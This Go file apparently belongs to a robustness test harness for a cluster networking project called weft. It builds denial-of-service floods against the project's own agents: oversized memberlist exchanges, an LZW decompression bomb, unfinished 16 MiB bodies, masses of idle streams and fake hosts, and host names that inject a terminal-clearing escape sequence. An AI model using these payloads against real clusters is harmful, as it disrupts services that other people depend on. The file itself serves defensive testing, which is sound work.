package attack

import (
	"bytes"
	"compress/lzw"
	"context"
	"encoding/binary"
	"fmt"
	"strings"

	"github.com/weftnet/weft/netmap"
)

// Floods are the attacks on memory, goroutines and the log.
func Floods() []Attack {
	bomb := pack(append(exchange(1<<20), make([]byte, 40<<20-1024)...)) // takes a second
	return []Attack{
		{"40 exchanges that declare a million nodes", func(ctx context.Context, t Target) error {
			return t.streams(ctx, 40, preface('g'), exchange(1<<20))
		}},
		{"20 compressed exchanges of 40 MB, 500 compressed datagrams", func(ctx context.Context, t Target) error {
			return compressed(ctx, t, bomb)
		}},
		{"24 request bodies of 16 MiB", func(ctx context.Context, t Target) error {
			const body = 16<<20 - 1024
			head := binary.BigEndian.AppendUint32(nil, body)
			return t.streams(ctx, 24, preface('r'), head, make([]byte, body-1)) // the last byte never comes
		}},
		{"1,500 streams of raft's that say nothing more", func(ctx context.Context, t Target) error {
			return t.streams(ctx, 1500, preface('l'), t.greeting(netmap.HostID{0xee, 1}))
		}},
		{"900 datagrams that name 40,000 logs", logs},
		{"4,000 hosts of invented clusters", strangers},
		{"hosts whose names have escape sequences", names},
	}
}

// preface opens a stream of a kind.
func preface(kind byte) []byte { return []byte{'W', 0xf7, 1, kind} }

// Form is the form of the datagrams, which agents must read: what they cannot read harms nobody.
const Form = 2

// packet is a datagram of the cluster's.
func (t Target) packet(kind byte, body ...byte) []byte {
	return append(append([]byte{0xf7, Form, kind}, t.Cluster[:]...), body...)
}

// exchange begins memberlist's exchange of all nodes.
func exchange(nodes uint32) []byte {
	b := append([]byte{6, 0x83}, "\xa5Nodes\xce"...)
	b = binary.BigEndian.AppendUint32(b, nodes)
	return append(b, "\xacUserStateLen\x00\xa4Join\xc3"...)
}

// compressed sends messages that become 40 MB when they are unpacked.
func compressed(ctx context.Context, t Target, bomb []byte) error {
	small := append([]byte{0xf7, Form, 'm'}, pack(make([]byte, 200<<10))...)
	var all [][]byte
	for range 500 {
		all = append(all, small)
	}
	sent := make(chan error, 1)
	go func() { sent <- t.datagrams(ctx, all) }()
	err := t.streams(ctx, 20, preface('g'), bomb)
	if other := <-sent; err == nil {
		err = other
	}
	return err
}

// pack is memberlist's compressed message.
func pack(message []byte) []byte {
	var out bytes.Buffer
	w := lzw.NewWriter(&out, lzw.LSB, 8)
	_, _ = w.Write(message) // to memory
	_ = w.Close()
	b := append([]byte{9, 0x82}, "\xa4Algo\x00\xa3Buf\xdb"...)
	b = binary.BigEndian.AppendUint32(b, uint32(out.Len()))
	return append(b, out.Bytes()...)
}

// logs names logs that do not exist, each a few entries long.
func logs(ctx context.Context, t Target) error {
	const perDatagram = 45
	var all [][]byte
	for i := range 900 {
		var heads []netmap.Head
		for j := range perDatagram {
			heads = append(heads, netmap.Head{Origin: netmap.ID{0xee, byte(i >> 8), byte(i), byte(j), 15: 1}, Life: 1, Seq: 1})
		}
		all = append(all, t.packet('h', netmap.AppendHeads(t.Others[0][:], heads)...))
	}
	return t.datagrams(ctx, all)
}

// strangers are signs of life of hosts of other clusters, each of another one.
func strangers(ctx context.Context, t Target) error {
	var all [][]byte
	for n := range 4000 {
		meta := make([]byte, 50)
		copy(meta, []byte{Form, 0, 0xaa, byte(n >> 8), byte(n)})
		copy(meta[18:], []byte{0xbb, byte(n >> 8), byte(n)})
		meta[41] = 1 // its start
		b := append([]byte{0xf7, Form, 'm', 4, 0x86}, "\xabIncarnation\x01\xa4Node\xb3"...)
		b = append(b, fmt.Sprintf("%x-000000", meta[2:8])...) // what a start is called
		b = append(b, "\xa4Addr\xa4\xc6\x33"...)
		b = append(b, byte(n>>8), byte(n))
		b = append(b, "\xa4Port\xcd\x1f\x0e\xa4Meta\xda\x00\x32"...)
		b = append(append(b, meta...), "\xa3Vsn\xa6\x01\x05\x02"...)
		all = append(all, append(b, Form, Form, Form))
	}
	return t.datagrams(ctx, all)
}

// Escape is in the names of the hosts that names tells of: it clears a terminal.
const Escape = "\x1b[2J"

// names tells of hosts whose names would be carried out by a terminal.
func names(ctx context.Context, t Target) error {
	const plain = "evil-name"
	var all [][]byte
	for i := range 20 {
		id := netmap.HostID{0xdd, byte(i), 15: 1}
		fact := netmap.HostFact{Name: plain, MTU: 1500}
		records, err := netmap.RecordsOf(1, []netmap.Change{{Key: netmap.HostFactKey(id), Value: fact}})
		if err != nil {
			return err
		}
		records[0].Value = strings.ReplaceAll(records[0].Value, plain, "evil"+Escape+"x")
		all = append(all, t.packet('b', netmap.AppendBatch(nil, netmap.Batch{Origin: id, Life: 1, Seq: 1, Whole: true, Records: records})...))
	}
	return t.datagrams(ctx, all)
}
